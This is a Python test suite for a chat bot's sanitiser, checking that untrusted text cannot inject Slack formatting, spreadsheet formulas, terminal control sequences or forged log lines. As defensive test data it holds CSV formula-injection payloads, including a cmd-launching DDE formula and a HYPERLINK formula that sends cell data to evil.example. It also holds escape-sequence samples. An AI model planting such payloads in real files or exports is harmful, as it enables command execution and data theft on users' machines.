"""Untrusted text stays text, in every place where it may appear."""

import csv
import io
import json
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.chatops import inert
from bot.chatops.shapes import length
from tests.oracles.hostile import HOSTILE
from tests.oracles.mrkdwn import tokens

# Where a renderer may put untrusted text; the token kinds of each must not change with what is put there.
PLACES = (
    "{}",
    "{}: 3 missing",
    "owner:{}",
    "*{}*",
    "_{}_",
    "~{}~",
    "a {} b",
    "`i-1` {} `i-2`",
    "<https://a.example|{}>",
    "first line\n{}",
    "{} and {}",
)
anything = st.text(max_size=200) | st.lists(st.sampled_from(HOSTILE[:400]), max_size=3).map("".join)


def kinds(text: str) -> list[str]:
    return [token.kind for token in tokens(text)]


def assert_inert_in_mrkdwn(hostile: str) -> None:
    shown = inert.mrkdwn(hostile, 300)
    assert 0 < length(shown) <= 300
    for place in PLACES:
        assert kinds(place.replace("{}", shown)) == kinds(place.replace("{}", "word")), place


def assert_one_clean_line(shown: str, limit: int) -> None:
    assert 0 < length(shown) <= limit
    assert shown == shown.strip()
    for char in shown:
        assert unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")


def starts_a_formula(cell: str) -> bool:
    """Written apart from the product: what Excel, LibreOffice or Sheets would try to compute."""
    try:
        float(cell)
    except ValueError:
        return bool(cell) and cell.lstrip()[:1] in set("=+-@＝＋－＠\t\r\n")
    return False


def test_corpus_is_large() -> None:
    """The corpus has more than the 600 strings it promises, all different."""
    assert len(HOSTILE) == len(set(HOSTILE)) > 600


def test_reference_reader_sees_what_is_not_neutralised() -> None:
    """The judge is awake: it finds the tokens of raw hostile text."""
    assert set(kinds("<!channel> *b* `c` :fire: https://a.b @here #ops _i_ ~s~")) == {
        "control", "code", "emoji", "link", "mention", "channel", "format *", "format _", "format ~",
    }  # fmt: skip
    assert kinds("&gt; quote") == ["quote"]
    assert sum(bool(tokens(hostile)) for hostile in HOSTILE) > len(HOSTILE) // 3


def test_hostile_text_adds_no_token_to_mrkdwn() -> None:
    """No string of the corpus changes what Slack makes of the text around it."""
    for hostile in HOSTILE:
        assert_inert_in_mrkdwn(hostile)


@settings(max_examples=300)
@given(anything)
def test_any_text_adds_no_token_to_mrkdwn(hostile: str) -> None:
    """Nor does any other text."""
    assert_inert_in_mrkdwn(hostile)


@settings(max_examples=200)
@given(anything, st.integers(min_value=1, max_value=60))
def test_cut_mrkdwn_keeps_its_limit_and_whole_entities(hostile: str, limit: int) -> None:
    """However short the limit: never over it, and never half of an entity."""
    shown = inert.mrkdwn("&<>" + hostile, limit)
    assert 0 < length(shown) <= limit
    rest = shown.replace("&amp;", "").replace("&lt;", "").replace("&gt;", "")
    assert not set("&<>") & set(rest)


def test_plain_text_is_one_visible_line() -> None:
    """Plain text has no line break, nothing invisible, and is never empty or too long."""
    for hostile in HOSTILE:
        assert_one_clean_line(inert.plain(hostile, 75), 75)


@settings(max_examples=300)
@given(anything, st.integers(min_value=1, max_value=80))
def test_any_plain_text_is_one_visible_line(hostile: str, limit: int) -> None:
    """Cleaning holds for any text and any limit, and cleaning twice changes nothing."""
    shown = inert.plain(hostile, limit)
    assert_one_clean_line(shown, limit)
    assert inert.plain(shown, limit) == shown


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("web-1", "web-1"),
        ("Größe №5", "Größe №5"),
        ("2026-11 Cumulative Update (KB5068861)", "2026-11 Cumulative Update (KB5068861)"),
        ("a\r\n\tb", "a b"),
        ("e\u0301", "é"),
        ("adm\u200bin", "adm�in"),
        ("", "-"),
        ("\n", "-"),
        ("x" * 80, "x" * 74 + "…"),
        ("😀" * 40, "😀" * 37 + "…"),
    ],
)
def test_plain_shows_good_text_as_it_is(raw: str, shown: str) -> None:
    """Ordinary names are not touched; what is taken out leaves a sign."""
    assert inert.plain(raw, 75) == shown


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("web_servers_1", "web_servers_1"),
        ("R&D <eu>", "R&amp;D &lt;eu&gt;"),
        ("*now* `x`", "∗now∗ ˋxˋ"),
        ("http://a.b", "http∶//a.b"),
        ("at 09:00, 17:30", "at 09:00, 17:30"),
        ("the local time: 09:00", "the local time: 09:00"),
        ("fire: in :prod :now: or soon:", "fire∶ in ∶prod ∶now∶ or soon∶"),
        ("<!channel>", "&lt;!channel&gt;"),
    ],
)
def test_mrkdwn_stays_readable(raw: str, shown: str) -> None:
    """Only what Slack would act on is replaced, by a look-alike."""
    assert inert.mrkdwn(raw, 100) == shown


def test_code_span_holds_the_whole_text() -> None:
    """Whatever is put into a code span, Slack sees one code span and nothing else."""
    for hostile in HOSTILE:
        span = inert.code(hostile)
        assert length(span) <= 255
        assert [(token.kind, token.text) for token in tokens(f"a {span} b")] == [("code", span)]


def test_code_span_can_be_copied() -> None:
    """Ids, ARNs and names stay as they are inside a code span."""
    assert inert.code("arn:aws:ssm:eu-central-1::x/y_z*") == "`arn:aws:ssm:eu-central-1::x/y_z*`"


def test_fallback_text_has_no_token_at_all() -> None:
    """The top-level text keeps its lines and says its facts, and holds nothing that Slack would act on."""
    for hostile in HOSTILE:
        shown = inert.escape_fallback(f"prod: 41 of 48 compliant\n{hostile}")
        assert kinds(shown) == []
        assert length(shown) <= 4000
    assert (
        inert.escape_fallback("prod: 41 of 48\nstaging: 9 of 9")
        == "prod: 41 of 48\nstaging: 9 of 9"
    )


SEPARATORS = ",;|\t"
SPLIT = (
    "a;=1+1;b",
    "a; =1+1",
    'a;"=1+1"',
    'x";"=1+1',
    'a;""=1+1',
    "x;@SUM(1+1)*cmd|' /C calc'!A0;",
    'web;=HYPERLINK("http://evil.example/?"&A1);x',
    "a|=1+1|b",
    "a||b",
    "a\t=1+1\tb",
    "a,=1+1,b",
    "a;＝1+1",
    "a;⁼1",
    "a;|=1",
    "a;;-1+1",
)


def assert_no_formula_in(line: str, separator: str) -> None:
    for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
        assert not any(starts_a_formula(cell.lstrip('" ')) for cell in row), row


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_formula_whatever_separator_the_spreadsheet_assumes(separator: str) -> None:
    """A German or French Excel splits the file at “;”, and an import dialogue wherever somebody says."""
    assert starts_a_formula("=1+1")
    for text in (*SPLIT, *HOSTILE):
        assert_no_formula_in(inert.csv_line("i-0abc", text, "eu-central-1"), separator)


@settings(max_examples=300)
@given(st.text("a1;,|\t\"'=+-@ ＝", max_size=12), st.sampled_from(SEPARATORS))
def test_no_text_becomes_a_formula_where_it_is_split(hostile: str, separator: str) -> None:
    """Nor any other text."""
    assert_no_formula_in(inert.csv_line("i-0abc", hostile, "eu-central-1"), separator)


def test_csv_file_has_no_formula_and_keeps_its_shape() -> None:
    """Every line is read back with as many cells as were written, none of which computes anything."""
    document = "".join(inert.csv_line(hostile, 7, "web-1", None) for hostile in HOSTILE)
    rows = list(csv.reader(io.StringIO(document, newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert row[1:] == ["7", "web-1", ""]
        assert not starts_a_formula(row[0])
        assert not any(ord(char) < 32 for char in row[0])


@settings(max_examples=300)
@given(anything)
def test_any_text_is_no_formula(hostile: str) -> None:
    """Nor does any other text compute anything."""
    ((cell,),) = csv.reader(io.StringIO(inert.csv_line(hostile), newline=""))
    assert not starts_a_formula(cell)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (2.5, "2.5"),
        ("-5", "-5"),
        ("-12.75", "-12.75"),
        ("-1+1", "'-1+1"),
        ("+1", "'+1"),
        ("=1", "'=1"),
        ("＝1", "'＝1"),
        (True, "true"),
        (None, ""),
        ("", ""),
        (float("-inf"), ""),
        ("i-0abc", "i-0abc"),
        ("a;=1+1;b", "a;'=1+1;b"),
        ("Update - x64; R&D, eu", "Update - x64; R&D, eu"),
    ],
)
def test_csv_cell(value: str | float | None, cell: str) -> None:
    """Numbers stay numbers, formulas become text, nothing stays nothing."""
    assert inert.csv_cell(value) == cell


@settings(max_examples=200)
@given(anything)
def test_terminal_and_log_text_is_one_printable_line(hostile: str) -> None:
    """No text reaches a terminal as a control sequence or a log as a second line."""
    for char in inert.terminal(hostile):
        assert unicodedata.category(char) not in ("Cc", "Cf", "Zl", "Zp")
    record = inert.log(hostile)
    assert record.isprintable()
    assert len(record.splitlines()) <= 1
    assert json.loads(json.dumps({"event": record})) == {"event": record}


@settings(max_examples=200)
@given(anything)
def test_json_for_a_terminal_means_the_same_and_is_printable(hostile: str) -> None:
    """Control and format characters are escapes; nothing else is touched."""
    document = json.dumps({"name": hostile}, ensure_ascii=False, indent=2)
    shown = inert.json_text(document)
    assert json.loads(shown) == {"name": hostile}
    assert all(char.isprintable() or char == "\n" for char in shown)
    assert shown.count("\n") == document.count("\n")


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ('"Größe 😀"', '"Größe 😀"'),
        ('"\x9b2J"', '"\\u009b2J"'),
        ('"a\u2028b\u202e"', '"a\\u2028b\\u202e"'),
        ('"\U000e0041"', '"\\udb40\\udc41"'),
        ('"\ud800"', '"\\ud800"'),
        ('{\n  "a": 1\n}', '{\n  "a": 1\n}'),
    ],
)
def test_json_for_a_terminal_stays_readable(raw: str, shown: str) -> None:
    """Umlauts and emoji stay; what would move the cursor or turn the line around does not."""
    assert inert.json_text(raw) == shown


def test_log_tells_the_written_from_the_real() -> None:
    """A line break and a typed “\\n” are told apart, so a log line can be trusted."""
    assert inert.log("a\nb") == "a\\nb"
    assert inert.log("a\\nb") == "a\\\\nb"
    assert length(inert.log("x" * 5000)) == 2000
